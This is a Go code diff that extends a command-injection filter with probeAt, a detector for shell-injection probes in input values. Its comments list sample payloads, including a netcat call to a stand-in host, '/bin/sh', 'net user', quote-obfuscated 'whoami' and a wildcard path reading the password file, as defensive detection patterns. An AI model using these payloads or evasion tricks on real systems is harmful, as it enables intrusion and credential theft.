@@ -114,6 +114,11 @@ func checkCmd(v []byte, m uint64) string {
 				if commandAt(v, j, false) {
 					return ruleCmdSeparator
 				}
+				// "Gifts & more" is prose: after a lone '&' between spaces,
+				// a probe command ending the value does not count.
+				if probeAt(v, j, v[i] == '&' && j == i+1 && i > 0 && v[i-1] == ' ') {
+					return ruleCmdSeparator
+				}
 				i = j - 1
 			}
 		}
@@ -150,6 +155,142 @@ func commandAt(v []byte, i int, sub bool) bool {
 		return end == len(v) || !isIdent(v[end]) && v[end] != '.' && v[end] != '-' && v[end] != '\''
 	}
 	return shellArg(v, end)
+}
+
+// probeAt reports whether what follows a separator at v[i] is one of the
+// shapes attack tools send that commandAt's rules leave out, none of which
+// prose writes after ';', '|' or a line break:
+//
+//   - a probe command that ends the value: "127.0.0.1;id", "x || pwd";
+//   - a command by its path: "; /bin/sh";
+//   - sleep with a number that ends the value: "x; sleep 10";
+//   - a network command with a host or address argument:
+//     "| nc evil.example 4444", "; ping 10.0.0.1";
+//   - net with a subcommand: "& net user", "| net localgroup";
+//   - a command word hidden from filters by shell quoting: "w'h'o'am'i",
+//     "wh$@oami", "who\ami" (quotes in pairs, "$@" or a backslash inside
+//     the word, removed as the shell removes them);
+//   - a path of '?' wildcards the shell expands: "/???/?at /???/p??swd".
+func probeAt(v []byte, i int, loneAmp bool) bool {
+	i = skipSpace(v, i)
+	if i >= len(v) {
+		return false
+	}
+	if v[i] == '/' {
+		if globPath(v, i) {
+			return true
+		}
+		// A command by its path: "; /bin/sh".
+		j := skipBinDir(v, i)
+		return j > i && commandStrength(v[j:identAt(v, j)]) != 0
+	}
+	end := identAt(v, i)
+	w := v[i:end]
+	rest := skipSpace(v, end)
+	switch {
+	case end == i:
+		return false
+	case end < len(v) && (v[end] == '\'' || v[end] == '"' || v[end] == '\\' || v[end] == '$'):
+		return quotedCommand(v, i)
+	case rest == len(v) && !loneAmp && probeCommand(w):
+		return true
+	case string(w) == "sleep" && rest < len(v) && rest > end && digitsToEnd(v, rest):
+		return true
+	case (string(w) == "nc" || string(w) == "ping" || string(w) == "dig" || string(w) == "ssh" || string(w) == "ftp") &&
+		rest > end && hostArg(v, rest):
+		return true
+	case string(w) == "net" && rest > end:
+		sub := v[rest:identAt(v, rest)]
+		switch string(sub) {
+		case "user", "users", "localgroup", "group", "share", "view", "use", "accounts", "session", "start", "stop", "config":
+			return true
+		}
+	}
+	return false
+}
+
+// probeCommand: the commands a blind probe runs alone, without arguments.
+func probeCommand(w []byte) bool {
+	switch string(w) {
+	case "id", "ls", "pwd", "ps", "env", "dir", "ver", "sh", "dash", "reboot", "halt":
+		return true
+	}
+	return commandStrength(w) == cmdStrong
+}
+
+func digitsToEnd(v []byte, i int) bool {
+	for ; i < len(v); i++ {
+		if !isDigit(v[i]) {
+			return skipSpace(v, i) == len(v)
+		}
+	}
+	return true
+}
+
+// hostArg: a dotted name or address ("evil.example", "10.0.0.1"), word
+// bytes around at least one inner '.'.
+func hostArg(v []byte, i int) bool {
+	dots, j := 0, i
+	for ; j < len(v) && (isAlnum(v[j]) || v[j] == '-' || v[j] == '.'); j++ {
+		if v[j] == '.' {
+			if j == i || j+1 >= len(v) || !isAlnum(v[j+1]) {
+				return false
+			}
+			dots++
+		}
+	}
+	return dots > 0 && (j == len(v) || v[j] == ' ' || v[j] == ':')
+}
+
+// quotedCommand reads the word at v[i] as a shell would after quote
+// removal (paired quotes, "$@" and backslashes dropped) and reports whether
+// quoting was used and the word is a command.
+func quotedCommand(v []byte, i int) bool {
+	var buf [12]byte
+	n, quotes, hidden := 0, 0, false
+	for ; i < len(v); i++ {
+		c := v[i]
+		switch {
+		case c == '\'' || c == '"':
+			quotes++
+			hidden = true
+			continue
+		case c == '\\':
+			hidden = true
+			continue
+		case c == '$' && i+1 < len(v) && v[i+1] == '@':
+			i++
+			hidden = true
+			continue
+		case !isAlnum(c):
+		default:
+			if n == len(buf) {
+				return false
+			}
+			buf[n] = c
+			n++
+			continue
+		}
+		break
+	}
+	return hidden && quotes%2 == 0 && n > 1 && commandStrength(buf[:n]) != 0
+}
+
+// globPath: "/", a segment of '?' and letters with at least one '?', "/":
+// "/???/", "/?in/".
+func globPath(v []byte, i int) bool {
+	q := 0
+	for j := i + 1; j < len(v); j++ {
+		switch c := v[j]; {
+		case c == '?':
+			q++
+		case c == '/':
+			return q > 0 && j > i+1
+		case c < 'a' || c > 'z':
+			return false
+		}
+	}
+	return false
 }
 
 // commandAtStart reports whether v starts with a command and a shell
